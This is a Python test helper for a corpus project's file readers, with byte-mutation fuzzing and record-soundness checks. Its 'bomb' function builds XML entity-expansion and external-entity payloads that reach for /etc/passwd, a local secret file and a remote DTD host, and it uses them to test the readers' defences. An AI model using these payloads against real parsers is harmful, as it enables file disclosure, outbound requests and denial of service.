"""What the tests of single readers share: reading a file, and bytes that went wrong."""

from __future__ import annotations

from itertools import islice

from hypothesis import strategies as st

from rag.corpus.streams import Stream
from rag.types import Article, Deletion, Reject

SECRET = "a secret line"


def records(module, path, skip=0):
    with Stream(path) as stream:
        return list(islice(module.read(stream, path.name, skip), 5000))


def slowly(module, path, size):
    """The records where the file comes in small chunks."""

    class Slow(Stream):
        def _next(self, _size):
            return super()._next(size)

        def peek(self, size=0):
            return super().peek(1 << 16)

    with Slow(path) as stream:
        return list(module.read(stream, path.name, 0))


def bomb(root, folder):
    """A document type with entities that grow, and that reach for a file and the network."""
    (folder / "secret.txt").write_text(SECRET)
    grow = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "lol">{grow}'
        f'<!ENTITY q "{"q" * 40000}">'
        f'<!ENTITY f SYSTEM "{(folder / "secret.txt").as_uri()}">'
        '<!ENTITY p SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://203.0.113.1/x">'
        '<!ENTITY % d SYSTEM "http://203.0.113.1/x.dtd"> %d;]>'
    )


ENTITIES = ("&l11;", "&q;" * 5000, "&f;", "&p;", "&h;")


def mutations(extras):
    return st.lists(
        st.tuples(
            st.floats(0, 1, exclude_max=True),
            st.sampled_from(["cut", "drop", "insert", "flip", "repeat"]),
            st.one_of(st.binary(max_size=12), st.sampled_from(extras)),
        ),
        min_size=1,
        max_size=5,
    )


def mutated(data, changes):
    for where, kind, extra in changes:
        at = int(where * len(data))
        if kind == "cut":
            data = data[:at]
        elif kind == "drop":
            data = data[:at] + data[at + len(extra) + 1 :]
        elif kind == "insert":
            data = data[:at] + extra + data[at:]
        elif kind == "flip" and data:
            data = data[:at] + bytes([data[at] ^ 0x55]) + data[at + 1 :]
        elif kind == "repeat":
            data = data[:at] + data[at : at + 300] * 2 + data[at + 300 :]
    return data


def check_sound(module, path):
    """No error, records numbered, texts on one line each, and ``skip`` as a slice."""
    found = records(module, path)
    assert [r.source.record for r in found] == list(range(len(found)))
    for skip in (1, 2, len(found)):
        assert records(module, path, skip) == found[skip:]
    for record in found:
        if isinstance(record, Article):
            assert record.id
            assert record.text
            parts = (*record.sections, *record.body)
            for text in (record.title, *(s.text for s in parts), *(s.label for s in parts)):
                assert len(text.splitlines()) <= 1
                text.encode("utf-8")
            assert all(s.text for s in parts)
        elif isinstance(record, Reject):
            assert record.reason
            assert len((record.reason + record.excerpt).splitlines()) == 1
        else:
            assert isinstance(record, Deletion)
    return found
